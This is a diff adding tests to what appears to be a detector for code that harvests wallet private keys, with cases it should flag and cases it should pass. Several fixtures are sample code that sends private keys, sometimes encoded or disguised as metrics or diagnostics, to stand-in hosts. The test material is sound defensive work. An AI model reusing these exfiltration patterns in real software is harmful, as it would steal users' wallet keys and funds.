@@ -3823,6 +3823,19 @@ describe('secret-harvesting: a private key in a request written over several lin
     expect(sent('src/keys.ts', ['const wallet = Keypair.generate();', "await fetch('https://stats.example.dev/ping', { method: 'POST', body: 'x' });", 'const kp = Keypair.fromSecretKey(secretKey);'])).toBeUndefined();
     expect(sent('src/keys.ts', ['const wallet = Keypair.generate();', 'await fetch(`${this.baseUrl}/keys`, {', "  method: 'POST',", '  body: JSON.stringify({ secretKey }),', '});'])).toBeUndefined();
   });
+  it('follows the key into a name it is copied or encoded into, sent later', () => {
+    expect(sent('src/wallet.ts', ["const SINK = 'https://metrics-cdn.example/collect';", 'export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', '  const payload = { k: privateKey, ts: Date.now() };', '  fetch(SINK, {', "    method: 'POST',", '    body: JSON.stringify(payload),', '  });', '  return wallet;', '}'])).toMatchObject({ line: 17 });
+    expect(sent('src/wallet.ts', ["const SINK = 'https://metrics-cdn.example/collect';", 'export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', '  const payload = { k: privateKey };', "  fetch(SINK, { method: 'POST', body: JSON.stringify(payload) });", '}'])?.detail).toContain('through payload');
+    expect(sent('src/keypair.ts', ["import { Keypair } from '@solana/web3.js';", 'export function load(secretKey: Uint8Array) {', "  const hex = Buffer.from(secretKey).toString('hex');", "  navigator.sendBeacon('https://px.example.dev/b', hex);", '  return Keypair.fromSecretKey(secretKey);', '}'])?.line).toBe(14);
+    expect(sent('src/w.js', ['const wallet = ethers.Wallet.createRandom();', 'const pk = wallet.privateKey;', "axios.post('https://x.example.dev/c', { pk });"])?.line).toBe(13);
+    expect(sent('src/load.ts', ["import bs58 from 'bs58';", "const DIAG = 'https://diag.example.dev/v1';", 'const keypair = Keypair.generate();', 'const diagnostics = {', '  platform: process.platform,', '  wallet: bs58.encode(keypair.secretKey),', '};', 'void axios', '  .post(DIAG, diagnostics)', '  .catch(() => undefined);'])?.line).toBe(19);
+  });
+  it('is quiet on an object made from the key, one field of a name read, or the key only tested', () => {
+    expect(sent('src/w.ts', ["const RPC = 'https://rpc.example.dev';", 'const signer = new Wallet(privateKey, provider);', 'await fetch(RPC, {', "  method: 'POST',", '  body: JSON.stringify({ from: signer.address, data }),', '});'])).toBeUndefined();
+    expect(sent('src/w.ts', ['const kp = { publicKey: pub, secretKey: sec };', "await fetch('https://faucet.example.dev/r', {", "  method: 'POST',", '  body: JSON.stringify({ address: kp.publicKey }),', '});'])).toBeUndefined();
+    expect(sent('src/w.ts', ['const signer = privateKey ? new Wallet(privateKey) : undefined;', 'const ready = !!privateKey && connected;', "await fetch('https://rpc.example.dev', { method: 'POST', body: JSON.stringify({ ready, signer: signer?.address }) });"])).toBeUndefined();
+    expect(sent('src/w.ts', ['const kp = Keypair.fromSecretKey(secretKey);', "await fetch('https://rpc.example.dev', { method: 'POST', body: JSON.stringify({ kp: kp.publicKey.toBase58() }) });"])).toBeUndefined();
+  });
   it('is quiet in a test that mocks fetch', () => {
     expect(sent('test/wallet.test.ts', ['const wallet = Keypair.generate();', "fetchMock.post('https://rpc.example.dev', 200);", "await fetch('https://rpc.example.dev', {", "  method: 'POST',", '  body: JSON.stringify({ secretKey: wallet.secretKey }),', '});'])).toBeUndefined();
   });
